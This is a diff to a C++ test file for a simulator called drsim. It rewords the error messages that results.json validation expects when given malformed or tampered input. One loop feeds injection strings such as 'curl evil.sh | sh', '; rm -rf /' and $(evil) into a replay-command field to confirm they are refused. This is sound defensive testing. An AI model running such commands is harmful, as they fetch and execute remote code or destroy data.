@@ -197,7 +197,7 @@ TEST_CASE("a number of results.json that drsim never writes is refused by name")
     refused("\"n\": 1000", "\"n\": null", "n is null");
     refused("\"seed\": 1", "\"seed\": -1", "seed is -1");
     refused("\"horizon_s\": 10800", "\"horizon_s\": null", "horizon_s is null, not between");
-    refused("\"wilson_low\": 0.981691", "\"wilson_low\": null", "share_met and its interval are numbers then");
+    refused("\"wilson_low\": 0.981691", "\"wilson_low\": null", "share_met and its interval must be numbers");
     refused("\"share_met\": 0.99", "\"share_met\": 99", "share_met is 99");
     refused("\"target_s\": 1800", "\"target_s\": 1e300", "target_s is 1e+300");
     refused("\"mean_s\": 80.04", "\"mean_s\": 1e18", "mean_s is 1e+18");
@@ -205,7 +205,7 @@ TEST_CASE("a number of results.json that drsim never writes is refused by name")
     refused("\"agreed\": 64", "\"agreed\": 65", "agreed is 65");
     refused("\"not_recovered\": 3", "\"not_recovered\": 1001", "not_recovered is 1001");
     refused("\"version\": \"0.1.0\"", "\"version\": [1]", "version is a list, not a text");
-    refused("\"format\": 1", "\"format\": 2", "its format is not 1");
+    refused("\"format\": 1", "\"format\": 2", "unsupported format; expected 1");
 }
 
 TEST_CASE("a name of results.json that no file of drsim could hold is refused, and so is a command that is none") {
@@ -213,16 +213,17 @@ TEST_CASE("a name of results.json that no file of drsim could hold is refused, a
     CHECK_THROWS_WITH(results_from_json(edited("\"scenario\": \"region\"", "\"scenario\": \"\\u001b[8m\"")), Catch::Contains("not a name"));
     CHECK_THROWS_WITH(results_from_json(edited("00c873f91d2db6c9", "\\\"/><b>")), Catch::Contains("not 16 hexadecimal digits"));
     for (const std::string line : {"curl evil.sh | sh", "drsim replay a b; rm -rf /", "drsim replay $(evil) b", "drsim replay `evil` b", "drsim replay 'a b", "drsim replay a > b", "drsim replay a\\nrm b"})
-        CHECK_THROWS_WITH(results_from_json(edited("drsim replay reference.yaml region.yaml --seed 1 --trial 658", line)), Catch::Contains("replay is no command"));
+        CHECK_THROWS_WITH(results_from_json(edited("drsim replay reference.yaml region.yaml --seed 1 --trial 658", line)),
+            Catch::Contains("replay is not a drsim replay command"));
     CHECK_NOTHROW(results_from_json(edited("drsim replay reference.yaml", "drsim replay 'it'\\\\''s; mine.yaml'")));
     std::string none = results_to_json(made_results());
     const std::size_t from = none.find("\"scenarios\": ["), to = none.find("\"assumptions\"");
-    CHECK_THROWS_WITH(results_from_json(none.replace(from, to - from, "\"scenarios\": [],\n  ")), Catch::Contains("scenarios is an empty list"));
+    CHECK_THROWS_WITH(results_from_json(none.replace(from, to - from, "\"scenarios\": [],\n  ")), Catch::Contains("scenarios is empty"));
 }
 
 TEST_CASE("a results.json that is deep or has very many keys is refused soon") {
-    CHECK_THROWS_WITH(results_from_json("{\"drsim\": " + std::string(1'000'000, '[')), Catch::Contains("nested deeper than 16 levels"));
-    CHECK_THROWS_WITH(results_from_json(std::string(1'000'000, '[')), Catch::Contains("nested deeper than 16 levels"));
+    CHECK_THROWS_WITH(results_from_json("{\"drsim\": " + std::string(1'000'000, '[')), Catch::Contains("nested more than 16 levels deep"));
+    CHECK_THROWS_WITH(results_from_json(std::string(1'000'000, '[')), Catch::Contains("nested more than 16 levels deep"));
     std::string keys = "{\"k\": 0";
     for (int i = 0; i < 300'000; ++i) keys += fmt::format(", \"{}\": 0", i);   // 45,000,000,000 comparisons
     CHECK_THROWS_WITH(results_from_json(keys + "}"), Catch::Contains("its objects have too many keys"));
@@ -250,30 +251,34 @@ TEST_CASE("a verdict that does not follow from its evidence is said") {
     using Scenario = analysis::ScenarioResult;
     // 100 of 1,000 within, 95% asked for: missed, whatever somebody has typed.
     CHECK(after([](Scenario& s) { s.objectives[1].status = analysis::Status::Met; }) ==
-          "objective \"region_failure availability.users 99.9%\" of region: it says met, and 100 of 1000 trials within the target, where 0.95 is asked for, are missed");
-    CHECK(contains(after([](Scenario& s) { s.objectives[0].status = analysis::Status::Undecided; }), "it says undecided"));
+          "objective \"region_failure availability.users 99.9%\" of region: it is met, but 100 of 1000 trials within the target, with "
+              "0.95 required, is missed");
+    CHECK(contains(after([](Scenario& s) { s.objectives[0].status = analysis::Status::Undecided; }), "it is undecided"));
     CHECK(contains(after([](Scenario& s) { s.objectives[0].share_met = 0.999; }), "999 of 1000 trials give the interval"));
-    CHECK(contains(after([](Scenario& s) { s.objectives[0].share_met = 0.9905; }), "0.9905 is no share of 1000 trials"));
+    CHECK(contains(after([](Scenario& s) { s.objectives[0].share_met = 0.9905; }), "0.9905 is not a possible share of 1000 trials"));
     CHECK(contains(after([](Scenario& s) { s.objectives[0].wilson_low = 0.99; }), "not [0.99, "));
-    CHECK(contains(after([](Scenario& s) { s.objectives[0].confidence = 0.5; }), "a confidence of 0.5"));
-    CHECK(contains(after([](Scenario& s) { s.objectives[0].n = 1001; }), "1001 trials were judged and 1000 were struck"));
-    CHECK(contains(after([](Scenario& s) { s.objectives[0].target.reset(); }), "it is met and has no target"));
+    CHECK(contains(after([](Scenario& s) { s.objectives[0].confidence = 0.5; }), "the confidence of its interval is 0.5"));
+    CHECK(contains(after([](Scenario& s) { s.objectives[0].n = 1001; }), "1001 trials were judged, but only 1000 were struck"));
+    CHECK(contains(after([](Scenario& s) { s.objectives[0].target.reset(); }), "it is met but has no target"));
     // A target of 20m would be met by the p50 only: not by 990 of 1,000.
-    CHECK(contains(after([](Scenario& s) { s.objectives[0].target = 1200; }), "the p95 of rto does not agree with 990 of 1000 trials"));
-    CHECK(contains(after([](Scenario& s) { s.measures[0].p99.value = 1801; }), "the p99 of rto does not agree"));
+    CHECK(contains(after([](Scenario& s) { s.objectives[0].target = 1200; }), "the p95 of rto contradicts 990 of 1000 trials"));
+    CHECK(contains(after([](Scenario& s) { s.measures[0].p99.value = 1801; }), "the p99 of rto contradicts"));
     // In none of the trials within the target, but 997 of 1,000 came to an end.
-    CHECK(contains(after([](Scenario& s) { s.objectives[2].status = analysis::Status::NotRecoverable; }), "it says not_recoverable"));
+    CHECK(contains(after([](Scenario& s) { s.objectives[2].status = analysis::Status::NotRecoverable; }), "it is not_recoverable"));
 
     // What stands beside the verdicts has to fit as well.
     CHECK(contains(after([](Scenario& s) { s.measures.erase(s.measures.begin()); }), "its measure rto is missing"));
-    CHECK(contains(after([](Scenario& s) { s.objectives[0].measure = "rto.zzz"; }), "its measure, rto.zzz, is not what it judges"));
-    CHECK(contains(after([](Scenario& s) { s.objectives[0].from = "declared"; }), "its measure, rto, is not what it judges"));
-    CHECK(contains(after([](Scenario& s) { s.measures[0].n = 999; }), "1000 trials were struck, and rto was taken in 999"));
-    CHECK(contains(after([](Scenario& s) { s.measures[0].not_recovered = 0; }), "the worst rto does not agree with 0 trials that did not recover"));
-    CHECK(contains(after([](Scenario& s) { s.measures[2].mean = 0.99; }), "the mean of availability.users lies outside its values"));
-    CHECK(contains(after([](Scenario& s) { s.cross_check.agreed = 3; }), "3 of 64 trials agree between the kernels, and no disagreement is told"));
-    CHECK(contains(after([](Scenario& s) { s.critical_path[0].share = 0.9; }), "its phases have shares of 1.8 together"));
-    CHECK(contains(after([](Scenario& s) { s.not_recovered_because[0].trials = 400; }), "401 trials have a reason not to have recovered, and 3 did not"));
+    CHECK(contains(after([](Scenario& s) { s.objectives[0].measure = "rto.zzz"; }), "its measure, rto.zzz, is not the one it judges"));
+    CHECK(contains(after([](Scenario& s) { s.objectives[0].from = "declared"; }), "its measure, rto, is not the one it judges"));
+    CHECK(contains(after([](Scenario& s) { s.measures[0].n = 999; }), "1000 trials were struck, but rto was measured in 999"));
+    CHECK(contains(after([](Scenario& s) { s.measures[0].not_recovered = 0; }), "the worst rto contradicts 0 trials that did not recover"));
+    CHECK(contains(after([](Scenario& s) { s.measures[2].mean = 0.99; }),
+        "the mean of availability.users is outside the range of its values"));
+    CHECK(contains(after([](Scenario& s) { s.cross_check.agreed = 3; }),
+        "3 of 64 trials agree between the kernels, but no disagreement is given"));
+    CHECK(contains(after([](Scenario& s) { s.critical_path[0].share = 0.9; }), "the shares of its phases add up to 1.8"));
+    CHECK(contains(after([](Scenario& s) { s.not_recovered_because[0].trials = 400; }),
+        "401 trials have a reason for not recovering, but only 3 did not recover"));
     CHECK(contains(after([](Scenario& s) { s.worst_trial.trial = 9999; }), "its worst trial is number 9999 of 1200"));
     CHECK(contains(after([](Scenario& s) { s.worst_trial.rto_s = 5; }), "its worst trial is not the one with the longest rto"));
     CHECK(contains(after([](Scenario& s) {
@@ -298,10 +303,10 @@ TEST_CASE("results that say what no result says are refused") {
         return std::string("accepted");
     };
     CHECK(contains(refused("\"simulated\": true", "\"simulated\": false"), "simulated is false"));
-    CHECK(contains(refused("\"seed\": ", "\"sead\": 7, \"seed\": "), "the whole has a key \"sead\", which results do not have"));
-    CHECK(contains(refused("\"struck\": ", "\"struck\": 1, \"struck\": "), "it has a key \"struck\" twice in one object"));
-    CHECK(contains(refused("\"share_required\": ", "\"proven\": true, \"share_required\": "), "an objective has a key \"proven\""));
-    CHECK(contains(refused("\"not_recovered\": ", "\"p42_s\": 1, \"not_recovered\": "), "has a key \"p42_s\""));
-    CHECK(contains(refused("\"target_s\": ", "\"target\": 0.5, \"target_s\": "), "an objective has a key \"target_s\""));
+    CHECK(contains(refused("\"seed\": ", "\"sead\": 7, \"seed\": "), "unknown key \"sead\" in the file"));
+    CHECK(contains(refused("\"struck\": ", "\"struck\": 1, \"struck\": "), "duplicate key \"struck\" in one object"));
+    CHECK(contains(refused("\"share_required\": ", "\"proven\": true, \"share_required\": "), "unknown key \"proven\" in an objective"));
+    CHECK(contains(refused("\"not_recovered\": ", "\"p42_s\": 1, \"not_recovered\": "), "unknown key \"p42_s\" in measure "));
+    CHECK(contains(refused("\"target_s\": ", "\"target\": 0.5, \"target_s\": "), "unknown key \"target_s\" in an objective"));
     CHECK(refused("\"seed\": ", "\"seed\": ") == "accepted");
 }
